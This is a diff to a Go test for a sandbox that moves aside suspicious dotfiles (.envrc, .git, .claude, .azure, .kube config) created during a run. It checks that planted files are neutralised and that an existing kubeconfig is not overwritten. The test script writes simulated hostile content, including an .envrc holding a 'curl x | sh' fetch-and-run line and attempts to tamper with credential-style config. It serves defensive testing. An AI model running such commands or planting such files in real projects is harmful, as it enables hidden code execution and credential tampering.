@@ -463,6 +463,7 @@ mount --bind ` + outside + ` ` + filepath.Join(dir, "x") + ` && chmod 777 ` + fi
 		deep := "a/b/c/d/e/f/g/h/lib"
 		mkfile(t, filepath.Join(proj, deep, ".git/config"), "[core]\n")
 		mkfile(t, filepath.Join(proj, "vendor/lib/.git/config"), "[core]\n")
+		mkfile(t, filepath.Join(proj, "conf/.kube/config"), "server: mine\n")
 		r, err := s.NewRun([]string{proj})
 		if err != nil {
 			t.Fatal(err)
@@ -477,6 +478,8 @@ mkdir -p w && ln vendor/lib2/.git/config w/.gitconfig
 c=$(dirname "$GOCACHE"); mkdir -p "$c/evil" && echo 'curl x | sh' > "$c/evil/.envrc" && ln -s "$c/evil" linked
 mkdir -p fake/.claude && echo '{}' > fake/.claude/settings.json && chmod 0 fake/.claude
 mkdir -p hid && echo evil > hid/.envrc && chmod 0 hid
+mkdir -p keys.pem/lib && git init -q keys.pem/lib; mkdir -p sub/.azure && echo evil > sub/.azure/.envrc
+echo 'server: evil' >> conf/.kube/config; echo evil > conf/.kube/.envrc
 true`)
 		cmd.Dir = proj
 		var out bytes.Buffer
@@ -507,12 +510,18 @@ true`)
 			got = append(got, strings.TrimPrefix(b.Path, proj+"/"))
 		}
 		// A mode-0 directory with files in it is no placeholder.
-		want := []string{deep + "/.envrc", "fake/.claude", "linked", "vendor/lib/.git", "vendor/lib2/.git", "x/y/.git", "z/.git"}
+		// Secret directories hide nothing either: a repository in a
+		// directory named like a key, an .envrc in a new .azure.
+		want := []string{deep + "/.envrc", "fake/.claude", "keys.pem/lib/.git", "linked", "sub/.azure/.envrc", "vendor/lib/.git", "vendor/lib2/.git", "x/y/.git", "z/.git"}
 		if os.Getuid() == 0 {
 			want = slices.Insert(want, 2, "hid/.envrc")
 		}
 		if !slices.Equal(got, want) {
 			t.Errorf("moved aside %v, want %v\n%s", got, want, out.String())
+		}
+		// The existing .kube, hidden during the command, was not written.
+		if b, _ := os.ReadFile(filepath.Join(proj, "conf/.kube/config")); string(b) != "server: mine\n" {
+			t.Errorf("conf/.kube/config written: %q", b)
 		}
 		if b, _ := os.ReadFile(filepath.Join(proj, deep, ".git/config")); string(b) != "[core]\n" {
 			t.Errorf("%s/.git/config written: %q", deep, b)
